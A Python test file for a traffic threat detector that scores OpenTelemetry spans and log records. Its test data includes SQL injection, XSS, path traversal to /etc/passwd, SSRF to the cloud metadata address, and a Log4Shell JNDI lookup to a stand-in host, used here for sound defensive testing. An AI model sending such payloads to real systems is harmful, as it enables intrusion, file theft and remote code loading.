"""ThreatScorer on realistic OTLP requests: what it annotates, what it leaves byte for byte alone."""

from __future__ import annotations

from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue
from opentelemetry.proto.trace.v1.trace_pb2 import Span

from tests.processors.otlp_samples import attr
from tests.processors.threat.spans import CLIENT, INTERNAL, SERVER, db_span, http_span, request
from tests.recording_receiver import export_call
from vigil.processors.scoring import ScorerChain
from vigil.processors.signals import Signal
from vigil.processors.threat import ThreatConfig, ThreatScorer
from vigil.processors.threat.scorer import CATEGORIES, RULES, SCORE, Finding


def annotations(item) -> dict[str, object]:
    out: dict[str, object] = {}
    for kv in item.attributes:
        if kv.key == SCORE:
            out["score"] = kv.value.double_value
        elif kv.key in (CATEGORIES, RULES):
            out[kv.key.rsplit(".", 1)[1]] = [v.string_value for v in kv.value.array_value.values]
    return out


BENIGN = [
    http_span("/api/v1/users/42"),
    http_span("/search", "q=O%27Brien&page=2&sort=-created_at"),
    http_span("/search", "q=%2227%22+monitor&next=https%3A%2F%2Fshop.example.com%2Fcart"),
    http_span("/static/js/app.3f2a91bc.js", agent="curl/8.5.0"),
    db_span("SELECT users.id, users.email FROM users WHERE users.id = %(id_1)s"),
    db_span("SELECT * FROM products WHERE name LIKE '%lamp%' OR sku = 'A-1' /* app:shop */", "db.statement"),
    # an outgoing call: its url.query is the application's own, not a client's
    http_span("/v1/charges", "expand=customer&q=%27%20OR%201%3D1--", kind=CLIENT),
    Span(name="render_template", kind=INTERNAL, attributes=[attr("code.function", "render")]),
]


def test_attacks_are_annotated_with_score_categories_and_rules():
    req = request(
        http_span("/search", "page=1&q=1%27%20OR%20%271%27%3D%271--"),
        http_span("/download/..%2f..%2f..%2fetc%2fpasswd"),
        http_span("/", agent="sqlmap/1.8.3#stable (https://sqlmap.org)"),
        db_span("SELECT * FROM users WHERE name = 'admin'-- ' AND password = 'x'"),
        http_span("/search", "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&u=http%3A%2F%2F169.254.169.254%2F"),
    )
    ThreatScorer().score(Signal.TRACES, req)
    spans = req.resource_spans[0].scope_spans[0].spans
    got = [annotations(span) for span in spans]
    assert got[0]["categories"] == ["sqli"] and "sqli.tautology" in got[0]["rules"]
    assert got[1]["categories"] == ["traversal"] and got[1]["rules"][0] == "traversal.dot-dot"
    assert got[2] == {"score": 0.88, "categories": ["scanner"], "rules": ["scanner.user-agent"]}
    assert got[3]["categories"] == ["sqli"] and got[3]["rules"] == ["sqli.comment-truncation"]
    assert set(got[4]["categories"]) == {"xss", "ssrf"}
    for item in got:
        assert 0.5 <= item["score"] <= 1
    # the score is a double, the arrays are string arrays, and nothing else was added
    assert spans[0].attributes[-3].value.WhichOneof("value") == "double_value"
    assert len(spans[0].attributes) == len(http_span("/search", "x").attributes) + 3


def test_benign_spans_are_left_byte_for_byte_alone():
    req = request(*BENIGN)
    before = req.SerializeToString()
    ThreatScorer().score(Signal.TRACES, req)
    assert req.SerializeToString() == before


def test_benign_spans_beside_attacks_are_untouched():
    req = request(*BENIGN, http_span("/search", "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"))
    ThreatScorer().score(Signal.TRACES, req)
    spans = req.resource_spans[0].scope_spans[0].spans
    for span, original in zip(spans, BENIGN, strict=False):
        assert span.SerializeToString() == original.SerializeToString()
    assert annotations(spans[-1])["categories"] == ["jndi"]


def test_suspicions_below_the_threshold_are_annotated_too():
    req = request(http_span("/login", "redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback"))
    ThreatScorer().score(Signal.TRACES, req)
    got = annotations(req.resource_spans[0].scope_spans[0].spans[0])
    assert got["rules"] == ["ssrf.loopback"] and 0 < got["score"] < 0.5


def test_old_semantic_conventions():
    span = Span(name="GET", kind=SERVER)
    span.attributes.extend(
        [
            attr("http.method", "GET"),
            attr("http.target", "/items?id=-1%20UNION%20SELECT%201%2C2"),
            attr("http.user_agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"),
        ]
    )
    req = request(span)
    ThreatScorer().score(Signal.TRACES, req)
    got = annotations(req.resource_spans[0].scope_spans[0].spans[0])
    assert got["categories"] == ["sqli", "scanner"]


def test_scoring_again_replaces_the_annotations():
    req = request(http_span("/search", "q=%3Csvg%20onload%3Dalert(1)%3E"))
    scorer = ThreatScorer()
    scorer.score(Signal.TRACES, req)
    once = req.SerializeToString()
    scorer.score(Signal.TRACES, req)
    assert req.SerializeToString() == once
    # annotations left over on a span that is now clean are removed
    clean = request(http_span("/"))
    clean.resource_spans[0].scope_spans[0].spans[0].attributes.append(
        KeyValue(key=SCORE, value=AnyValue(double_value=0.9))
    )
    scorer.score(Signal.TRACES, clean)
    assert clean.SerializeToString() == request(http_span("/")).SerializeToString()


def test_disabled_rules_do_not_fire():
    req = request(http_span("/", agent="sqlmap/1.8"), http_span("/search", "q=%27%20OR%201%3D1--"))
    ThreatScorer(ThreatConfig(disabled_rules=frozenset({"scanner.user-agent"}))).score(Signal.TRACES, req)
    spans = req.resource_spans[0].scope_spans[0].spans
    assert annotations(spans[0]) == {}
    assert annotations(spans[1])["categories"] == ["sqli"]


def test_sinks_get_a_finding_per_annotated_item():
    findings: list[Finding] = []
    req = request(*BENIGN, http_span("/search", "q=%3Cscript%3E"))
    ThreatScorer(sinks=[findings.append]).score(Signal.TRACES, req)
    assert len(findings) == 1
    finding = findings[0]
    assert finding.signal is Signal.TRACES and finding.verdict.categories == ("xss",)
    assert finding.evidence[0].key == "url.query" and finding.evidence[0].value == "q=%3Cscript%3E"
    assert finding.item is req.resource_spans[0].scope_spans[0].spans[-1]


def logs_request(*records) -> ExportLogsServiceRequest:
    req = ExportLogsServiceRequest()
    req.resource_logs.add().scope_logs.add().log_records.extend(records)
    return req


def record(body: str, **attributes: str):
    req = ExportLogsServiceRequest()
    rec = (
        req.resource_logs.add()
        .scope_logs.add()
        .log_records.add(severity_text="WARN", body=AnyValue(string_value=body))
    )
    rec.attributes.extend(attr(k.replace("_", "."), v) for k, v in attributes.items())
    return rec


def test_log_bodies_and_string_attributes_are_scored():
    req = logs_request(
        record("login failed for user admin' OR '1'='1"),
        record("search", query="<img src=x onerror=alert(1)>"),
        record("User O'Brien logged in", code_filepath="/app/../app/views.py"),
        record("GET /api/v1/orders?status=open 200", exception_stacktrace='File "../../x.py", line 1'),
        record("${jndi:ldap://evil.example/a}", event_name="vigil.threat"),  # our own events: not scored
    )
    before = [r.SerializeToString() for r in req.resource_logs[0].scope_logs[0].log_records]
    ThreatScorer().score(Signal.LOGS, req)
    records = req.resource_logs[0].scope_logs[0].log_records
    assert annotations(records[0])["categories"] == ["sqli"]
    assert annotations(records[1])["categories"] == ["xss"]
    assert [r.SerializeToString() for r in records[2:]] == before[2:]


def test_metrics_are_not_read():
    assert Signal.METRICS not in ThreatScorer.signals


def test_registered_as_the_threat_entry_point():
    chain = ScorerChain.from_names(["threat"])
    assert isinstance(chain.scorers[0], ThreatScorer)
    assert chain.handles(Signal.TRACES) and chain.handles(Signal.LOGS) and not chain.handles(Signal.METRICS)


def test_through_the_sidecar(receiver, sidecar_factory):
    sidecar = sidecar_factory(receiver.endpoint, ScorerChain([ThreatScorer()]))
    payload = request(*BENIGN, http_span("/search", "q=1%20AND%20SLEEP(5)")).SerializeToString()
    call, channel = export_call(sidecar, Signal.TRACES)
    call(payload, timeout=5)
    channel.close()
    # The scored spans first, then the threat event about the attack among them.
    (signal, forwarded), (event_signal, events) = receiver.received
    spans = signal.parse(forwarded).resource_spans[0].scope_spans[0].spans
    assert [annotations(s).get("categories") for s in spans] == [None] * len(BENIGN) + [["sqli"]]
    assert event_signal is Signal.LOGS
    (record,) = event_signal.parse(events).resource_logs[0].scope_logs[0].log_records
    assert (record.trace_id, record.span_id) == (spans[-1].trace_id, spans[-1].span_id)
    assert {kv.key: kv.value.string_value for kv in record.attributes}["event.name"] == "vigil.threat"


def test_reading_the_wire_bytes_annotates_as_reading_the_request():
    # The sidecar hands the scorer the bytes a request was decoded from; without them (a scorer
    # later in the chain, vigil score) it encodes the request itself: same results either way,
    # on resources and scopes of several spans, attacks among them.
    spans = [
        http_span("/search", "page=1&q=1%27%20OR%20%271%27%3D%271--"),
        *BENIGN,
        http_span("/", agent="sqlmap/1.8.3#stable (https://sqlmap.org)"),
        db_span("SELECT * FROM users WHERE name = 'admin'-- ' AND password = 'x'"),
    ]
    original = request(*spans)
    second = original.resource_spans.add()
    second.CopyFrom(original.resource_spans[0])
    second.scope_spans.add().spans.extend(spans[:3])
    payload = original.SerializeToString()
    with_bytes, without = Signal.TRACES.parse(payload), Signal.TRACES.parse(payload)
    events_with = ThreatScorer().score(Signal.TRACES, with_bytes, payload=payload)
    events_without = ThreatScorer().score(Signal.TRACES, without)
    assert with_bytes == without
    for _, events in (*events_with, *events_without):
        for record in (r for rl in events.resource_logs for sl in rl.scope_logs for r in sl.log_records):
            record.observed_time_unix_nano = 0  # when the event was made
            record.time_unix_nano = 0  # the same, for the spans here without a time
    assert [r for _, r in events_with] == [r for _, r in events_without]
    flagged = [annotations(s) for rs in with_bytes.resource_spans for ss in rs.scope_spans for s in ss.spans]
    assert sum(1 for a in flagged if a.get("score", 0) >= 0.5) == 2 * 3 + 1  # the attacks, copied ones too
